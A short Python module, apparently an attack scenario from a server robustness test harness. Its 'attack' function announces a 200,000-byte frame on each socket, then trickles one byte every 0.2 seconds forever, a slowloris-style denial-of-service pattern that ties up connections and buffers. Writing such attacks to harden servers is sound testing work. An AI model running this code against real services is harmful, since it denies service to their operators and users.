"""A frame that comes a byte at a time, so that something always arrives."""

import os
import struct
import time

from attempts import sockets


def attack():
    for sock in sockets():
        os.write(sock, struct.pack("<I", 200_000))
    while True:
        for sock in sockets():
            os.write(sock, b" ")
        time.sleep(0.2)
